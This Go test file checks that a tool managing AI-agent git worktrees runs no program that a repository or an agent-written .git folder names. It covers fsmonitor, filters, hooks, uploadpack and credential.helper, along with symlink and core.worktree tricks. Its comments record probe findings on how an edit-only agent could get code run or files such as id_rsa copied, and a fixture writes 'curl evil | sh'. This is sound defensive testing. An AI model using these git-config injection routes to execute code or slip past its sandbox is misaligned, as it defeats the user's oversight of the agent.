//go:build unix

package worktree

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"
)

// hostile is a program a repository's config or hooks name: it notes
// that it ran in marker (and passes its input through, as a filter).
func hostile(t *testing.T) (program, marker string) {
	t.Helper()
	dir := t.TempDir()
	marker = filepath.Join(dir, "ran")
	program = filepath.Join(dir, "evil.sh")
	script := "#!/bin/sh\necho \"$0 $*\" >> '" + marker + "'\ncat\n"
	if err := os.WriteFile(program, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return program, marker
}

// arm gives the repository whose git folder is gitDir every program git
// may run on a read, a checkout or a commit: fsmonitor, clean, smudge and
// process filters, an external diff, textconv, a pager, and hooks.
func arm(t *testing.T, gitDir, worktree, program string) {
	t.Helper()
	for k, v := range map[string]string{
		"core.fsmonitor": program, "filter.ev.clean": program, "filter.ev.smudge": program,
		"filter.pr.process": program, "diff.external": program, "diff.ev.textconv": program,
		"core.pager": program, "pager.diff": program, "log.showSignature": "true", "gpg.program": program,
		"core.sshCommand": program, "credential.helper": "!" + program,
	} {
		git(t, worktree, "config", "--file", filepath.Join(gitDir, "config"), k, v)
	}
	hooks := filepath.Join(gitDir, "hooks")
	if err := os.MkdirAll(hooks, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, h := range []string{"post-checkout", "reference-transaction", "post-index-change", "pre-commit", "post-commit", "post-merge", "pre-push"} {
		if err := os.WriteFile(filepath.Join(hooks, h), []byte("#!/bin/sh\nexec '"+program+"' hook "+h+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, worktree, "info-attributes-are-read.txt", "")
	if err := os.MkdirAll(filepath.Join(gitDir, "info"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(gitDir, "info", "attributes"), []byte("* filter=ev diff=ev\n*.p filter=pr\n"), 0o644); err != nil {
		t.Fatal(err)
	}
}

func noneRan(t *testing.T, marker, what string) {
	t.Helper()
	if b, err := os.ReadFile(marker); err == nil {
		t.Fatalf("%s ran programs the repository names:\n%s", what, b)
	}
}

// treeHash hashes every file under dir (path, mode, content) for a
// byte-for-byte comparison.
func treeHash(t *testing.T, dir string) string {
	t.Helper()
	var lines []string
	if err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, _ := d.Info()
		rel, _ := filepath.Rel(dir, p)
		sum := ""
		if d.Type().IsRegular() {
			b, _ := os.ReadFile(p)
			h := sha256.Sum256(b)
			sum = hex.EncodeToString(h[:])
		}
		lines = append(lines, rel+" "+info.Mode().String()+" "+sum)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	sort.Strings(lines)
	h := sha256.Sum256([]byte(strings.Join(lines, "\n")))
	return hex.EncodeToString(h[:])
}

// Finding 2 and 4 of issue 25: a repository whose .git came from
// elsewhere names programs; the reads ran them (fsmonitor, filters,
// diff.external replacing the diff) and stored every changed file in the
// repository's objects. Now they run none and change no byte of .git.
func TestReadsRunNoProgramTheRepositoryNamesAndWriteNothingIntoIt(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo := newRepo(t, map[string]string{"a.txt": "one\n", ".gitattributes": "* filter=ev diff=ev\n"})
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	arm(t, filepath.Join(repo, ".git"), repo, program)
	write(t, w.Path, "a.txt", "two\n")
	write(t, w.Path, "new.p", "new\n")
	write(t, repo, "a.txt", "dirty in the repository\n")
	before := treeHash(t, filepath.Join(repo, ".git"))

	for _, r := range []struct {
		repo Repository
		base string
	}{{w.Git, w.Base}, {locate(t, repo), ""}} {
		c, err := List(ctx, r.repo, r.base)
		if err != nil {
			t.Fatal(err)
		}
		if len(c.Files) < 1 || c.Files[0].Path != "a.txt" {
			t.Fatalf("changes %+v", c)
		}
		d, _, err := Diff(ctx, r.repo, r.base, "a.txt", MaxDiffBytes)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(d, "-one\n") {
			t.Fatalf("the diff is not git's own:\n%s", d)
		}
		if _, err := Dirty(ctx, r.repo); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := Unmerged(ctx, w); err != nil {
		t.Fatal(err)
	}
	if err := Check(ctx, w); err == nil {
		t.Fatal("Check saw nothing to lose")
	}
	noneRan(t, marker, "listing, diffing and checking")
	if after := treeHash(t, filepath.Join(repo, ".git")); after != before {
		t.Fatal("the reads changed the repository's .git")
	}
}

// Finding 2: worktree add ran post-checkout, reference-transaction,
// post-index-change, a smudge filter and fsmonitor.
func TestAddRunsNoHookFilterOrFsmonitor(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo := newRepo(t, map[string]string{"a.txt": "one\n", ".gitattributes": "* filter=ev\n"})
	arm(t, filepath.Join(repo, ".git"), repo, program)
	write(t, repo, "carried.txt", "new\n")
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s", Carry: true})
	if err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "worktree add with carry")
	if b, _ := os.ReadFile(filepath.Join(w.Path, "a.txt")); string(b) != "one\n" {
		t.Fatalf("a.txt in the worktree = %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(w.Path, "carried.txt")); string(b) != "new\n" {
		t.Fatalf("carried.txt in the worktree = %q", b)
	}
	// The checkout's index is the branch's: nothing shows as changed.
	if got := git(t, w.Path, "-c", "core.fsmonitor=false", "-c", "filter.ev.clean=", "status", "--porcelain", "--untracked-files=no"); got != "" {
		t.Fatalf("the new worktree's index does not match its files: %q", got)
	}
	os.Remove(marker)
	// Commit is the person's action: the repository's hooks run, as git
	// commit would run them.
	write(t, w.Path, "b.txt", "b\n")
	if _, err := CommitAll(ctx, w, "b"); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(marker); err != nil || !strings.Contains(string(b), "hook pre-commit") {
		t.Fatalf("commit did not run the repository's pre-commit hook: %q", b)
	}
}

// Finding 1: a session's folder is a plain folder, or a subfolder of a
// repository; the agent writes HEAD, config (core.worktree = ., an
// fsmonitor), objects/ and refs/ there. git took that for a repository
// and ran the fsmonitor on the next listing.
func TestAFolderAnAgentMadeLookLikeARepositoryIsNeverRead(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	plain := t.TempDir()
	repo := newRepo(t, map[string]string{"pkg/a.go": "package a\n"})
	sub := filepath.Join(repo, "pkg")
	// Decided when the session is made, before the agent writes.
	_, plainErr := Locate(ctx, plain)
	code(t, plainErr, CodeNotRepo)
	subRepo := locate(t, sub)
	for _, dir := range []string{plain, sub} {
		if err := os.MkdirAll(filepath.Join(dir, "objects"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(dir, "refs"), 0o755); err != nil {
			t.Fatal(err)
		}
		write(t, dir, "HEAD", "4b825dc642cb6eb9a060e54bf8d69288fbee4904\n")
		write(t, dir, "config", "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "+program+"\n")
	}
	// What the person chose is still what is read.
	c, err := List(ctx, subRepo, "")
	if err != nil {
		t.Fatal(err)
	}
	if subRepo.WorkTree != repo || len(c.Files) != 2 || c.Files[0].Path != "pkg/HEAD" {
		t.Fatalf("the subfolder reads %+v: %+v", subRepo, c.Files)
	}
	// And Locate (the decision for a new session) never takes the layout.
	_, err = Locate(ctx, plain)
	code(t, err, CodeNotRepo)
	noneRan(t, marker, "reading a folder an agent made look like a repository")
}

// Finding 5: branch "@" passed check-ref-format; Discard's check ran
// `git log main..@`, which git reads as main..HEAD, and lost the commit.
func TestBranchAndBaseNamesGitReadsAsSomethingElseAreRefused(t *testing.T) {
	ctx := context.Background()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	git(t, repo, "tag", "shadow")
	git(t, repo, "branch", "shadow")
	for _, name := range []string{"@", "HEAD", "@{-1}", "FETCH_HEAD", "ORIG_HEAD", "refs/heads/x", "shadow", "heads/main"} {
		_, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "n", Branch: name})
		code(t, err, CodeBadName)
		_, err = Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "n", Base: name})
		code(t, err, CodeBadName)
	}
	// A worktree kept from before, on branch "@": the check compares the
	// branches, refs/heads/main..refs/heads/@, and finds the commit.
	root := t.TempDir()
	w, err := Add(ctx, AddOptions{Dir: repo, Root: root, Name: "at", Branch: "at"})
	if err != nil {
		t.Fatal(err)
	}
	write(t, w.Path, "b.txt", "b\n")
	c, err := CommitAll(ctx, w, "the work")
	if err != nil {
		t.Fatal(err)
	}
	git(t, repo, "branch", "-m", "at", "@")
	w.Branch = "@"
	err = Discard(ctx, w, false)
	var e *Error
	if !errors.As(err, &e) || e.Code != CodeUnmerged || len(e.Commits) != 1 || e.Commits[0].SHA != c.SHA {
		t.Fatalf("discard of branch @ without confirm: %v", err)
	}
}

// Finding 6: a base branch with a committed symlink d -> /elsewhere and
// an untracked d/notes.txt in the repository; carry wrote
// /elsewhere/notes.txt.
func TestCarryWritesNothingThroughASymlinkedFolder(t *testing.T) {
	ctx := context.Background()
	elsewhere := t.TempDir()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	git(t, repo, "checkout", "-q", "-b", "evilbase")
	if err := os.Symlink(elsewhere, filepath.Join(repo, "d")); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "add", "d")
	git(t, repo, "commit", "-qm", "a link")
	git(t, repo, "checkout", "-q", "main")
	write(t, repo, "d/notes.txt", "secret plans\n")
	_, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "c", Base: "evilbase", Carry: true})
	code(t, err, CodeDirty)
	if !strings.Contains(err.Error(), "symbolic link") {
		t.Fatalf("the refusal does not say why: %v", err)
	}
	if entries, _ := os.ReadDir(elsewhere); len(entries) != 0 {
		t.Fatalf("carry wrote outside the worktree: %v", entries)
	}
}

// agentGitFolder writes, as an edit-only agent could (text files only),
// a git folder at dir/.git whose config names program as fsmonitor; head
// is its HEAD ("ref: refs/heads/none" for a repository with no commit).
func agentGitFolder(t *testing.T, dir, head, program string) {
	t.Helper()
	write(t, dir, ".git/HEAD", head+"\n")
	write(t, dir, ".git/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "+program+"\n")
	write(t, dir, ".git/objects/info/k", "")
	write(t, dir, ".git/refs/k", "")
}

// withSubmodule makes a repository whose main branch records a submodule
// at sub (a gitlink; the submodule's commit is not needed).
func withSubmodule(t *testing.T) (repo, sha string) {
	t.Helper()
	subsrc := newRepo(t, map[string]string{"s.txt": "s\n"})
	sha = git(t, subsrc, "rev-parse", "HEAD")
	repo = newRepo(t, map[string]string{"a.txt": "a\n"})
	git(t, repo, "update-index", "--add", "--cacheinfo", "160000,"+sha+",sub")
	git(t, repo, "commit", "-qm", "sub")
	return repo, sha
}

// Probe finding 1: an agent at the top of a repository writes a partial
// clone's config whose remote names an upload-pack program, and a branch
// at a commit that is not there; worktree add fetched it and ran the
// program. An archive that is a partial clone with its base commit
// missing did the same.
func TestAddFetchesNothingForABaseCommitThatIsMissing(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	cfg, err := os.ReadFile(filepath.Join(repo, ".git", "config"))
	if err != nil {
		t.Fatal(err)
	}
	write(t, repo, ".git/config", strings.Replace(string(cfg), "repositoryformatversion = 0", "repositoryformatversion = 1", 1)+
		"[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\tpromisor = true\n\turl = "+t.TempDir()+"\n\tuploadpack = "+program+"\n")
	write(t, repo, ".git/refs/heads/main", "1111111111111111111111111111111111111111\n")
	_, err = Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	code(t, err, CodeNotFound)
	noneRan(t, marker, "worktree add from a branch at a missing commit")

	archive := newRepo(t, map[string]string{"a.txt": "a\n"})
	head := git(t, archive, "rev-parse", "HEAD")
	git(t, archive, "branch", "other")
	os.Remove(filepath.Join(archive, ".git", "objects", head[:2], head[2:]))
	for k, v := range map[string]string{"core.repositoryformatversion": "1", "extensions.partialClone": "origin",
		"remote.origin.promisor": "true", "remote.origin.url": t.TempDir(), "remote.origin.uploadpack": program} {
		git(t, archive, "config", k, v)
	}
	for _, base := range []string{"", "other"} {
		_, err = Add(ctx, AddOptions{Dir: archive, Root: t.TempDir(), Name: "s" + base, Base: base})
		code(t, err, CodeNotFound)
	}
	noneRan(t, marker, "worktree add from a partial clone missing its base commit")
}

// Probe finding 2 (a, c, d): git add -A in the scratch folder ran git
// status inside a submodule, and that git read the submodule's own
// config: an fsmonitor an agent wrote into sub/.git, or one in
// .git/modules/sub of a repository from elsewhere.
func TestReadsRunNothingASubmoduleNames(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo, sha := withSubmodule(t)
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	before := treeHash(t, filepath.Join(repo, ".git"))
	// (a) a worktree session; the agent makes sub a repository.
	agentGitFolder(t, filepath.Join(w.Path, "sub"), "ref: refs/heads/none", program)
	if _, err := List(ctx, w.Git, w.Base); err != nil {
		t.Fatal(err)
	}
	if _, err := Dirty(ctx, w.Git); err != nil {
		t.Fatal(err)
	}
	// Whether the reads succeed on this worktree is not the subject: that
	// they run nothing is.
	_ = Check(ctx, w)
	_, _, _ = Diff(ctx, w.Git, w.Base, "sub", 1<<20)
	noneRan(t, marker, "reading a worktree whose submodule an agent wrote")
	if treeHash(t, filepath.Join(repo, ".git")) != before {
		t.Fatal("the reads changed the repository's .git")
	}
	// (d) a session at the top of the repository, same files.
	agentGitFolder(t, filepath.Join(repo, "sub"), "ref: refs/heads/none", program)
	if _, err := List(ctx, locate(t, repo), ""); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "reading a repository whose submodule an agent wrote")
	// (c) a repository from elsewhere whose submodule's git folder names
	// an fsmonitor: listing it and carrying its work into a worktree.
	archive, _ := withSubmodule(t)
	md := filepath.Join(archive, ".git", "modules", "sub")
	write(t, md, "HEAD", sha+"\n")
	write(t, md, "config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../sub\n\tfsmonitor = "+program+"\n")
	if err := os.MkdirAll(filepath.Join(md, "objects"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(md, "refs"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, archive, "sub/.git", "gitdir: ../.git/modules/sub\n")
	write(t, archive, "carried.txt", "x\n")
	if _, err := List(ctx, locate(t, archive), ""); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "listing a repository whose submodule names an fsmonitor")
	if _, err := Add(ctx, AddOptions{Dir: archive, Root: t.TempDir(), Name: "c", Carry: true}); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "worktree add with carry from a repository whose submodule names an fsmonitor")
}

// Probe finding 2 (b): the agent makes tools/ a repository, the person
// commits it (a gitlink), and from then on the listing, Merge's check
// and the person's next commit ran its fsmonitor.
func TestANestedRepositoryTheAgentMadeRunsNothingAfterItWasCommitted(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	agentGitFolder(t, filepath.Join(w.Path, "tools"), "1111111111111111111111111111111111111111", program)
	write(t, w.Path, "b.txt", "b\n")
	if _, err := CommitAll(ctx, w, "one"); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "the person's first commit")
	write(t, w.Path, "b.txt", "b2\n")
	if _, err := List(ctx, w.Git, w.Base); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "listing after the commit")
	_, err = Merge(ctx, w)
	code(t, err, CodeDirty)
	noneRan(t, marker, "merge's check")
	if _, err := CommitAll(ctx, w, "two"); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "the person's second commit")
	if _, err := Merge(ctx, w); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "the person's merge")
}

// Probe finding 3: a nested git folder with no commit made Dirty fail,
// Check ignored the failure, and discard without confirm removed an
// uncommitted file. Now the listing shows the folder and the check
// counts it.
func TestANestedRepositoryWithNoCommitIsListedAndDiscardStillAsks(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	write(t, w.Path, "precious.txt", "a day of work\n")
	agentGitFolder(t, filepath.Join(w.Path, "x"), "ref: refs/heads/none", program)
	c, err := List(ctx, w.Git, w.Base)
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Files) != 2 || c.Files[0].Path != "precious.txt" || c.Files[1].Path != "x" || c.Files[1].Status != "added" {
		t.Fatalf("the listing: %+v", c.Files)
	}
	err = Discard(ctx, w, false)
	var e *Error
	if !errors.As(err, &e) || e.Code != CodeUnmerged || len(e.Files) != 2 {
		t.Fatalf("discard without confirm: %v", err)
	}
	if _, err := os.Stat(filepath.Join(w.Path, "precious.txt")); err != nil {
		t.Fatal("discard without confirm removed an uncommitted file")
	}
	noneRan(t, marker, "listing and checking a nested git folder")
}

// Probe finding 4: core.worktree in a repository's config pointed the
// reads, and carry, at another folder (carry copied its id_rsa into the
// new worktree, where the agent reads).
func TestARepositoryWhoseWorkTreeIsElsewhereIsRefused(t *testing.T) {
	ctx := context.Background()
	elsewhere := t.TempDir()
	write(t, elsewhere, "id_rsa", "PRIVATE KEY\n")
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	git(t, repo, "config", "core.worktree", elsewhere)
	_, err := Locate(ctx, repo)
	code(t, err, CodeNotRepo)
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s", Carry: true})
	code(t, err, CodeNotRepo)
	if _, err := os.Stat(filepath.Join(w.Path, "id_rsa")); w.Path != "" && err == nil {
		t.Fatal("carry copied a file of another folder into the worktree")
	}
	// A subfolder of the work tree is still its repository.
	if err := os.MkdirAll(filepath.Join(repo, "pkg"), 0o755); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "config", "--unset", "core.worktree")
	if r := locate(t, filepath.Join(repo, "pkg")); r.WorkTree != repo {
		t.Fatalf("a subfolder: %+v", r)
	}
}

// Probe finding 5: a FIFO at .git/info/exclude or at a loose ref blocked
// the listing in open(2) forever, past its context.
func TestAFIFOInTheRepositoryDoesNotBlockTheListing(t *testing.T) {
	for _, at := range []string{"info/exclude", "refs/heads/main", "shallow", "index"} {
		repo := newRepo(t, map[string]string{"a.txt": "a\n"})
		r := locate(t, repo)
		git(t, repo, "pack-refs", "--all")
		os.Remove(filepath.Join(repo, ".git", at))
		if err := syscall.Mkfifo(filepath.Join(repo, ".git", at), 0o644); err != nil {
			t.Fatal(err)
		}
		done := make(chan error, 1)
		go func() { _, err := List(context.Background(), r, ""); done <- err }()
		select {
		case err := <-done:
			// Returning is the subject; a listing that refuses the FIFO may.
			if err != nil {
				t.Logf("the listing with a FIFO at .git/%s: %v", at, err)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("the listing is blocked on a FIFO at .git/%s", at)
		}
	}
}

// Probe finding 6: git runs with no WaitDelay and no process group: a
// program git started (here the person's pre-commit hook) that kept git's
// output open held the call until it ended.
func TestAProgramGitLeavesRunningDoesNotHoldTheCall(t *testing.T) {
	ctx := context.Background()
	defer func(d time.Duration) { WaitDelay = d }(WaitDelay)
	WaitDelay = time.Second
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	pidFile := filepath.Join(t.TempDir(), "pid")
	write(t, repo, ".git/hooks/pre-commit", "#!/bin/sh\nsleep 600 &\necho $! > '"+pidFile+"'\n")
	if err := os.Chmod(filepath.Join(repo, ".git", "hooks", "pre-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	w.Trust, _ = Fingerprint(ctx, w)
	write(t, w.Path, "b.txt", "b\n")
	done := make(chan error, 1)
	go func() { _, err := CommitAll(ctx, w, "b"); done <- err }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("the commit waits for a program its hook left running")
	}
	b, err := os.ReadFile(pidFile)
	if err != nil {
		t.Fatal(err)
	}
	var pid int
	for _, c := range strings.TrimSpace(string(b)) {
		pid = pid*10 + int(c-'0')
	}
	// The group was killed: the program ends (or is a zombie its new
	// parent has not reaped yet) well before its 600 s.
	deadline := time.Now().Add(30 * time.Second)
	for syscall.Kill(pid, 0) == nil {
		if st, _ := os.ReadFile("/proc/" + strings.TrimSpace(string(b)) + "/stat"); strings.Contains(string(st), ") Z ") {
			break
		}
		if time.Now().After(deadline) {
			syscall.Kill(pid, syscall.SIGKILL)
			t.Fatal("the program the hook left running was not stopped")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// Probe finding 7: Discard's worktree remove and branch -D ran the
// repository's reference-transaction hook.
func TestDiscardRunsNoHook(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	arm(t, filepath.Join(repo, ".git"), repo, program)
	if err := Discard(ctx, w, true); err != nil {
		t.Fatal(err)
	}
	noneRan(t, marker, "discard")
}

// Probe finding 8: the agent rewrote its worktree's .git file to point
// at another repository, and Discard failed ("does not point back").
func TestTheAgentCannotBlockDiscard(t *testing.T) {
	ctx := context.Background()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	other := newRepo(t, map[string]string{"z.txt": "z\n"})
	otherBefore := treeHash(t, other)
	for i, rewrite := range []func(dir string){
		func(dir string) { write(t, dir, ".git", "gitdir: "+filepath.Join(other, ".git")+"\n") },
		func(dir string) {
			os.Remove(filepath.Join(dir, ".git"))
			if err := os.Symlink(filepath.Join(other, ".git"), filepath.Join(dir, ".git")); err != nil {
				t.Fatal(err)
			}
		},
		func(dir string) {
			os.Remove(filepath.Join(dir, ".git"))
			if err := os.Mkdir(filepath.Join(dir, ".git"), 0o755); err != nil {
				t.Fatal(err)
			}
		},
	} {
		w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s" + string(rune('a'+i))})
		if err != nil {
			t.Fatal(err)
		}
		rewrite(w.Path)
		if err := Discard(ctx, w, true); err != nil {
			t.Fatalf("discard after the agent rewrote .git (%d): %v", i, err)
		}
		if _, err := os.Stat(w.Path); err == nil {
			t.Fatalf("discard left the worktree (%d)", i)
		}
		if got := git(t, repo, "branch", "--list", w.Branch); got != "" {
			t.Fatalf("discard left the branch (%d): %s", i, got)
		}
	}
	if treeHash(t, other) != otherBefore {
		t.Fatal("discard changed the repository the agent's .git named")
	}
}

// Probe finding 9: changes hidden from review: a -diff attribute made
// the diff "Binary files differ"; a top-level file named "-rf.sh" could
// not be diffed.
func TestNoAttributeOrNameHidesAChangeFromReview(t *testing.T) {
	ctx := context.Background()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	r := locate(t, repo)
	write(t, repo, ".gitattributes", "run.sh -diff\n")
	write(t, repo, "run.sh", "curl evil | sh\n")
	write(t, repo, "-rf.sh", "curl evil | sh\n")
	write(t, repo, ":(glob)*", "magic\n")
	c, err := List(ctx, r, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range c.Files {
		if f.Path == "run.sh" && (f.Binary || f.Additions != 1) {
			t.Fatalf("the listing calls run.sh binary: %+v", f)
		}
	}
	for _, p := range []string{"run.sh", "-rf.sh", ":(glob)*"} {
		d, _, err := Diff(ctx, r, "", p, 1<<20)
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if !strings.Contains(d, "+curl evil | sh\n") && !strings.Contains(d, "+magic\n") || strings.Count(d, "diff --git") != 1 {
			t.Fatalf("the diff of %s hides its content:\n%s", p, d)
		}
	}
}

// An agent in acceptEdits at the top of a repository (or in its
// worktree, under a core.hooksPath relative to the checkout) can write a
// hook or the config, and the person's Commit button ran it. Now commit,
// merge and pull request refuse with repository_changed while the config
// or hooks differ from what they were when the worktree was made; once
// the person confirms (Trust is the current Fingerprint), they run.
func TestThePersonsActionsRefuseHooksOrConfigWrittenSinceTheSessionStarted(t *testing.T) {
	ctx := context.Background()
	program, marker := hostile(t)
	hook := "#!/bin/sh\nexec '" + program + "' hook pre-commit\n"
	repo := newRepo(t, map[string]string{"a.txt": "a\n", ".husky/pre-commit": "#!/bin/sh\ntrue\n"})
	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
	if err != nil {
		t.Fatal(err)
	}
	write(t, w.Path, "b.txt", "b\n")
	write(t, repo, ".git/hooks/pre-commit", hook)
	if err := os.Chmod(filepath.Join(repo, ".git", "hooks", "pre-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	_, err = CommitAll(ctx, w, "b")
	code(t, err, CodeRepoChanged)
	_, err = Merge(ctx, w)
	code(t, err, CodeRepoChanged)
	_, err = OpenPR(ctx, w, "t", "")
	code(t, err, CodeRepoChanged)
	noneRan(t, marker, "the person's actions after an agent wrote a hook")
	// The person checked the hook and confirms: it runs, as git commit
	// would run it.
	if w.Trust, err = Fingerprint(ctx, w); err != nil {
		t.Fatal(err)
	}
	if _, err := CommitAll(ctx, w, "b"); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(marker); !strings.Contains(string(b), "hook pre-commit") {
		t.Fatalf("the confirmed commit did not run the hook: %q", b)
	}
	os.Remove(marker)
	// A filter written into the config.
	git(t, repo, "config", "filter.ev.clean", program)
	write(t, w.Path, "c.txt", "c\n")
	_, err = CommitAll(ctx, w, "c")
	code(t, err, CodeRepoChanged)
	// A hook under a core.hooksPath relative to the checkout (husky),
	// which the agent can edit in its own worktree.
	git(t, repo, "config", "--unset", "filter.ev.clean")
	os.Remove(filepath.Join(repo, ".git", "hooks", "pre-commit"))
	git(t, repo, "config", "core.hooksPath", ".husky")
	w2, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "h"})
	if err != nil {
		t.Fatal(err)
	}
	write(t, w2.Path, ".husky/pre-commit", hook)
	_, err = CommitAll(ctx, w2, "h")
	code(t, err, CodeRepoChanged)
	noneRan(t, marker, "the person's commit after an agent wrote a filter or a hook in its worktree")
	// A worktree kept without a fingerprint (an older Konsole) asks too.
	w2.Trust = ""
	write(t, w2.Path, ".husky/pre-commit", "#!/bin/sh\ntrue\n")
	_, err = CommitAll(ctx, w2, "h")
	code(t, err, CodeRepoChanged)
}
